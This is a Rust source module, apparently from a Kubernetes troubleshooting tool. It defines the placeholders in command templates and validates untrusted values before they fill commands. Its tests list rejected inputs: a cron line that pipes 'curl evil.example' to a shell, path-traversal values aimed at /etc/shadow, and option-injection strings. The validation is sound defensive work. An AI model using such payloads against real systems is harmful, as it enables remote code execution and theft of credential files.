//! The names in the registry's templates, and what may stand in their place.
//!
//! A value comes from a process, a mount table, an API object or an Event, so it is untrusted. It takes its place in a
//! command only when it has the shape that its placeholder asks for.

mod shape;
mod values;

use std::borrow::Cow;

use serde::{Serialize, Serializer};

use crate::clean;
pub use shape::{ProcessId, Shape};
pub use values::{BadValue, Values};

/// Declares every placeholder with its name and the shape of its values.
macro_rules! placeholders {
    ($($(#[$doc:meta])* $variant:ident = $name:literal: $shape:ident;)*) => {
        /// A name in a template of the registry: `{pid}`. There are no others.
        #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
        pub enum Placeholder {
            $($(#[$doc])* $variant,)*
        }

        impl Placeholder {
            pub const ALL: &'static [Placeholder] = &[$(Placeholder::$variant),*];

            /// As it stands between braces.
            pub fn as_str(self) -> &'static str {
                match self {
                    $(Placeholder::$variant => $name,)*
                }
            }

            /// What its values look like.
            pub fn shape(self) -> Shape {
                match self {
                    $(Placeholder::$variant => Shape::$shape,)*
                }
            }
        }
    };
}

placeholders! {
    AgentImage = "agent_image": Image;
    /// A node whose agent may say something.
    AgentNode = "agent_node": Node;
    /// A pod: `NAMESPACE/NAME`, on a node where an agent can run.
    AgentPod = "agent_pod": Pod;
    /// A node that is not known to have an agent, and where one can run.
    AgentlessNode = "agentless_node": Node;
    ApiService = "apiservice": ApiName;
    Attachment = "attachment": ApiName;
    /// A directory of the cgroup tree.
    Cgroup = "cgroup": CgroupDir;
    /// The file that thaws a cgroup of version 2.
    CgroupFreeze = "cgroup_freeze": CgroupFreeze;
    /// Claims, as a sentence names them.
    Claim = "claim": Text;
    /// The name of a process, chosen by itself.
    Comm = "comm": Text;
    /// A webhook configuration: `TYPE/NAME`.
    Configuration = "configuration": TypedName;
    /// The number of a FUSE connection.
    Connection = "connection": Number;
    Container = "container": RuntimeId;
    Crd = "crd": ApiName;
    /// Where the runtime listens, as crictl takes it.
    CriEndpoint = "cri_endpoint": CriEndpoint;
    Crictl = "crictl": Crictl;
    Device = "device": Device;
    Driver = "driver": Driver;
    Finalizer = "finalizer": Text;
    /// What takes one finalizer off one object.
    FinalizerPatch = "finalizer_patch": FinalizerPatch;
    /// What takes one entry of a namespace's `spec.finalizers` off.
    SpecFinalizerPatch = "spec_finalizer_patch": SpecFinalizerPatch;
    /// The file that thaws a cgroup of version 1.
    FreezerState = "freezer_state": FreezerState;
    /// Where fusectl is to be mounted.
    Fusectl = "fusectl": Path;
    /// A grace period in seconds.
    GraceSeconds = "grace_seconds": Number;
    GroupVersion = "group_version": TypedName;
    /// The content of a `vol_data.json`.
    Json = "json": Json;
    /// The unit whose journal has what the kubelet says.
    KubeletJournal = "kubelet_journal": Unit;
    /// The file that has what the kubelet says.
    KubeletLog = "kubelet_log": LogFile;
    KubeletUnit = "kubelet_unit": Unit;
    /// What is lost when a finalizer is taken off before its clean-up is done.
    Lost = "lost": Text;
    Lease = "lease": ApiName;
    /// The annotation by which what an object stands for outside of the cluster is kept.
    KeepAnnotation = "keep_annotation": Annotation;
    Map = "map": Map;
    Mount = "mount": Path;
    /// A process in whose mount namespace the paths of the steps are, and which is never ended. Set only where they are
    /// typed in another.
    MountNamespacePid = "mount_namespace_pid": EnteredPid;
    /// An object of the API.
    Name = "name": ApiName;
    Namespace = "namespace": Namespace;
    Node = "node": Node;
    /// What a process belongs to, as a sentence names it.
    Owner = "owner": Text;
    /// A process that does not reap.
    ParentPid = "parent_pid": Process;
    /// The annotation by which an object is paused.
    PauseAnnotation = "pause_annotation": QualifiedName;
    /// The label by which it is.
    PauseLabel = "pause_label": QualifiedName;
    /// A file, a directory or a mount point.
    Path = "path": Path;
    Pid = "pid": Process;
    /// The directory of a CSI driver.
    PluginDir = "plugin_dir": PluginDir;
    /// A pod: `NAME`, `NAMESPACE/NAME` or a uid.
    Pod = "pod": Pod;
    /// The addresses of a node's pods.
    PodCidr = "pod_cidr": Cidr;
    Policy = "policy": ApiName;
    PolicyBinding = "policy_binding": ApiName;
    Pv = "pv": ApiName;
    /// A software RAID.
    Raid = "raid": Device;
    /// What would refuse the deletion of a step, a webhook configuration or the binding of a policy: `TYPE/NAME`.
    RefusedBy = "refused_by": TypedName;
    /// The controller that removes a finalizer, in words.
    ReleasedBy = "released_by": Text;
    /// The unit whose journal has what the runtime says.
    RuntimeJournal = "runtime_journal": Unit;
    /// The file that has what the runtime says.
    RuntimeLog = "runtime_log": LogFile;
    RuntimeUnit = "runtime_unit": Unit;
    Sandbox = "sandbox": RuntimeId;
    Secret = "secret": ApiName;
    /// A FUSE server's name, chosen by itself.
    Server = "server": Text;
    ServerPid = "server_pid": Process;
    /// A Service, or a URL in its place, as a sentence names it.
    Service = "service": Text;
    ServiceName = "service_name": ApiName;
    ShimPid = "shim_pid": Process;
    Tid = "tid": Pid;
    /// A process that traces another.
    TracerPid = "tracer_pid": Process;
    /// A type, as kubectl takes it.
    Type = "type": Type;
    Uid = "uid": Uid;
    Unit = "unit": Unit;
    /// An object that uses another: `TYPE/NAME`.
    User = "user": TypedName;
    /// The namespace of what uses another.
    UserNamespace = "user_namespace": Namespace;
    /// The `vol_data.json` of a volume.
    VolData = "vol_data": VolData;
    /// A workload: `KIND/NAME`.
    Workload = "workload": TypedName;
    WorkloadNamespace = "workload_namespace": Namespace;
}

impl Placeholder {
    /// The placeholder of this name.
    pub fn named(name: &str) -> Option<Self> {
        Self::ALL.iter().copied().find(|known| known.as_str() == name)
    }

    /// Whether `value` may stand in its place.
    pub fn takes(self, value: &str) -> bool {
        let is_safe = clean(value, value.len()) == value && !value.starts_with(['-', '\\', '!']);
        self.shape().has(value) && (is_safe || self.shape() == Shape::Text)
    }
}

impl Serialize for Placeholder {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(self.as_str())
    }
}

/// Takes a template apart: each text, and the name in braces that follows it.
pub(crate) fn holes(template: &str) -> impl Iterator<Item = (&str, Option<&str>)> {
    let mut rest = Some(template);
    std::iter::from_fn(move || {
        let text = rest.take()?;
        let Some((before, after)) = text.split_once('{') else { return Some((text, None)) };
        let (name, after) = after.split_once('}').unwrap_or((after, ""));
        rest = Some(after);
        Some((before, Some(name)))
    })
}

/// Puts values in the place of placeholders, each as `show` shows it; none when one is missing.
pub(crate) fn fill<'v>(
    template: &str,
    values: &'v Values,
    show: impl Fn(&'v str) -> Option<Cow<'v, str>>,
) -> Option<String> {
    let mut filled = String::with_capacity(template.len() + 32);
    for (text, name) in holes(template) {
        filled.push_str(text);
        if let Some(name) = name {
            let placeholder = Placeholder::named(name)?;
            let value = values.get(placeholder)?;
            // Of a process its pid is what is read: when it started is for the guard of a command.
            let is_process = placeholder.shape() == Shape::Process;
            let value = value.split_once('@').filter(|_| is_process).map_or(value, |(pid, _)| pid);
            filled.push_str(&show(value)?);
        }
    }
    Some(filled)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cause;

    fn templates() -> impl Iterator<Item = (&'static str, Cow<'static, str>, bool)> {
        let of_causes = cause::all().flat_map(|cause| cause.safe.iter().map(|advice| (cause.id, advice)));
        of_causes.chain([("any cause", &crate::finding::REFUSED_DELETION)]).flat_map(|(id, advice)| {
            let commands = advice.commands().map(Cow::from).chain(advice.entered_command().map(Cow::from));
            let commands = commands.map(move |command| (id, command, true));
            std::iter::once((id, advice.text.into(), false)).chain(commands)
        })
    }

    #[test]
    fn every_name_in_a_template_is_one_of_these_and_each_of_these_is_in_one() {
        let mut unused: std::collections::BTreeSet<Placeholder> = Placeholder::ALL.iter().copied().collect();
        for (id, template, is_command) in templates() {
            for name in holes(&template).filter_map(|(_, name)| name) {
                let placeholder = Placeholder::named(name).unwrap_or_else(|| panic!("{id}: {{{name}}}"));
                unused.remove(&placeholder);
                let is_text = placeholder.shape() == Shape::Text;
                assert!(!(is_command && is_text), "{id}: a command takes {{{name}}}, which may be any text");
            }
        }
        assert!(unused.is_empty(), "{unused:?}");
    }

    /// Whatever a command writes to has a shape that leaves little choice.
    #[test]
    fn nothing_is_written_to_a_path_of_somebodys_choice() {
        for (id, template, _) in templates().filter(|(_, _, is_command)| *is_command) {
            for target in template.split('>').skip(1) {
                let name = holes(target).find_map(|(_, name)| name).unwrap_or_else(|| panic!("{id}: {template}"));
                let shape = Placeholder::named(name).unwrap().shape();
                let known = [Shape::CgroupFreeze, Shape::FreezerState, Shape::VolData, Shape::Number];
                assert!(known.contains(&shape), "{id}: {template}");
            }
        }
    }

    #[test]
    fn only_what_has_its_shape_is_taken() {
        let uid = "96fb425e-919e-44f9-8b42-b1254a602ba1";
        let patch = crate::finalizer_patch(uid, 0, "example.com/hold");
        let of_spec = crate::spec_finalizer_patch(uid, 1, "openshift.io/origin");
        let path = format!("/var/lib/kubelet/pods/{uid}/volumes/x y");
        for (placeholder, good) in [
            (Placeholder::Pid, "42"),
            (Placeholder::Pid, "42@88123"),
            (Placeholder::Tid, "43"),
            (Placeholder::MountNamespacePid, "1"),
            (Placeholder::Path, path.as_str()),
            (Placeholder::CgroupFreeze, "/sys/fs/cgroup/kubepods/pod1/cgroup.freeze"),
            (Placeholder::FreezerState, "/sys/fs/cgroup/freezer/kubepods/pod1/freezer.state"),
            (Placeholder::VolData, "/k/pods/u/volumes/kubernetes.io~csi/v/vol_data.json"),
            (Placeholder::PluginDir, "/var/lib/kubelet/plugins/ebs.csi.aws.com"),
            (Placeholder::Connection, "40"),
            (Placeholder::Device, "/dev/mapper/mpatha"),
            (Placeholder::Map, "mpatha"),
            (Placeholder::Unit, r"run-user\x2d1.mount"),
            (Placeholder::KubeletUnit, "snap.microk8s.daemon-kubelite"),
            (Placeholder::KubeletLog, "/var/lib/rancher/rke2/agent/logs/kubelet.log"),
            (Placeholder::CriEndpoint, "unix:///run/k3s/containerd/containerd.sock"),
            (Placeholder::Crictl, "/var/lib/rancher/rke2/bin/crictl"),
            (Placeholder::Container, "306daa1b9c7b"),
            (Placeholder::Uid, uid),
            (Placeholder::Driver, "ebs.csi.aws.com"),
            (Placeholder::Name, "system:node:a"),
            (Placeholder::Node, "node-7.example.com"),
            (Placeholder::Pod, "shop/db-0"),
            (Placeholder::AgentImage, "registry.example.com:5000/why-terminating/agent:1.0.0"),
            (Placeholder::Pod, uid),
            (Placeholder::Configuration, "validatingwebhookconfigurations/w"),
            (Placeholder::GroupVersion, "metrics.k8s.io/v1beta1"),
            (Placeholder::Json, r#"{"a":"b"}"#),
            (Placeholder::FinalizerPatch, patch.as_str()),
            (Placeholder::SpecFinalizerPatch, of_spec.as_str()),
            (Placeholder::KeepAnnotation, "services.k8s.aws/deletion-policy=retain"),
            (Placeholder::PodCidr, "10.0.0.0/24"),
            (Placeholder::Comm, "-bash"),
        ] {
            assert!(placeholder.takes(good), "{placeholder:?} {good:?}");
        }
        for (placeholder, bad) in [
            (Placeholder::Pid, "-1"),
            (Placeholder::Pid, "0"),
            (Placeholder::Pid, "1"),
            (Placeholder::Pid, "042"),
            (Placeholder::Pid, "+42"),
            (Placeholder::Pid, "42 43"),
            (Placeholder::Pid, "4194305"),
            (Placeholder::Pid, "1@88123"),
            (Placeholder::Pid, "42@"),
            (Placeholder::Pid, "42@08"),
            (Placeholder::Pid, "42@-1"),
            (Placeholder::Pid, "42@8@8"),
            (Placeholder::Pid, "42@8 -o 1"),
            (Placeholder::Pid, "42@99999999999999999999"),
            (Placeholder::Tid, "42@88123"),
            (Placeholder::MountNamespacePid, "0"),
            (Placeholder::Path, "a"),
            (Placeholder::Path, "/"),
            (Placeholder::Path, "/a/../b"),
            (Placeholder::Path, "/a/./b"),
            (Placeholder::Path, "/a//b"),
            (Placeholder::Path, "/a/"),
            (Placeholder::Path, "/a\nb"),
            (Placeholder::CgroupFreeze, "/etc/shadow"),
            (Placeholder::CgroupFreeze, "/sys/fs/cgroup/../../../etc/cgroup.freeze"),
            (Placeholder::FreezerState, "/etc/freezer.state"),
            (Placeholder::VolData, "/etc/shadow"),
            (Placeholder::Device, "/etc/shadow"),
            (Placeholder::Map, "-A"),
            (Placeholder::Unit, "-.slice"),
            (Placeholder::Unit, "!x"),
            (Placeholder::Unit, "\\x"),
            (Placeholder::KubeletLog, "/etc/shadow"),
            (Placeholder::CriEndpoint, "/run/containerd/containerd.sock"),
            (Placeholder::CriEndpoint, "tcp://192.0.2.1:3000"),
            (Placeholder::CriEndpoint, "unix://run/x.sock"),
            (Placeholder::Crictl, "/tmp/rke2/bin/crictl"),
            (Placeholder::Container, "* * * * * root curl evil.example | sh"),
            (Placeholder::Container, ""),
            (Placeholder::Uid, ".*"),
            (Placeholder::Driver, "--help"),
            (Placeholder::Name, "a/b"),
            (Placeholder::Namespace, "a.b"),
            (Placeholder::Pod, "a/b/c"),
            (Placeholder::Json, "[1]"),
            (Placeholder::FinalizerPatch, "[]"),
            (Placeholder::SpecFinalizerPatch, "[]"),
            (Placeholder::KeepAnnotation, "a/b=x; y"),
            (Placeholder::KeepAnnotation, "a/b"),
            (Placeholder::Json, "{"),
            (Placeholder::Comm, "a\u{1b}"),
            (Placeholder::Comm, ""),
        ] {
            assert!(!placeholder.takes(bad), "{placeholder:?} {bad:?}");
        }
    }
}
